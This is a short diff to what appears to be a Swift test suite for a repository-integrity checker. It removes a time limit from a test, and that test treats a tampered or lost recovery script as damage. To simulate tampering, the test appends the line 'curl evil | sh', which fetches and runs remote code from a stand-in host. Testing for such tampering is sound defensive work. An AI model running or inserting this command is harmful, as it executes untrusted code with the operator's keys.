@@ -43,7 +43,7 @@ import Testing
         #expect(try sample.damage() == ["repository.malformed keys/signing-key-1.age"])
     }
 
-    @Test(.timeLimit(.minutes(10)), arguments: ["recover.sh", "RECOVER.md"])
+    @Test(arguments: ["recover.sh", "RECOVER.md"])
     func `a recovery file that was edited or lost is damage, for it runs with the operator's keys`(name: String) throws
     {
         try sample.edit(name) { $0 += Array("\ncurl evil | sh\n".utf8) }
